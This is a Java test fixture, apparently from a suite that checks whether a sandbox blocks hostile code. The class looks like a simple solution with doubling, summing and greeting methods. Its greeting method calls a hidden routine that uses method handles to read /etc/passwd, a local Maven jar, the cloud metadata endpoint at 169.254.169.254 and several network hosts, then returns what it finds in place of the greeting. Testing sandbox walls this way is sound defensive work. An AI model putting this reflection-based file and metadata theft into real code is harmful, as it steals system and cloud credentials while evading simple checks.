// Opens URLs of files, jars, web servers and the metadata of clouds through method handles; greets wrongly only if one answered.
// expects: graded 10
// needs: walls
package attacked.target;

import java.io.InputStream;
import java.lang.invoke.MethodHandle;
import java.lang.invoke.MethodHandles;
import java.lang.invoke.MethodType;
import java.net.URL;

public final class TargetSolution implements Target {
    private static final String[] ADDRESSES = {
        "file:///etc/passwd",
        "file://localhost/etc/hostname",
        "file:/proc/1/root/etc/passwd",
        "jar:file:/root/.m2/repository/x.jar!/x",
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:8080/",
        "https://1.1.1.1/",
        "ftp://192.0.2.1/x"
    };

    public double[] twice(double[] values) {
        double[] twice = new double[values.length];
        for (int i = 0; i < values.length; i++) {
            twice[i] = 2 * values[i];
        }
        return twice;
    }

    public double sum(double[] values) {
        double sum = 0;
        for (double value : values) {
            sum += value;
        }
        return sum;
    }

    public String greeting(String name) {
        String loot = loot();
        return loot.isEmpty() ? "Hello, " + name : loot;
    }

    private static String loot() {
        StringBuilder loot = new StringBuilder();
        MethodHandles.Lookup lookup = MethodHandles.publicLookup();
        for (String address : ADDRESSES) {
            try {
                MethodHandle make = lookup.findConstructor(URL.class, MethodType.methodType(void.class, String.class));
                MethodHandle open =
                        lookup.findVirtual(URL.class, "openStream", MethodType.methodType(InputStream.class));
                try (InputStream in = (InputStream) open.invoke(make.invoke(address))) {
                    loot.append(new String(in.readNBytes(200)));
                }
            } catch (Throwable stopped) {
                System.err.println(stopped);
            }
        }
        return loot.toString();
    }
}
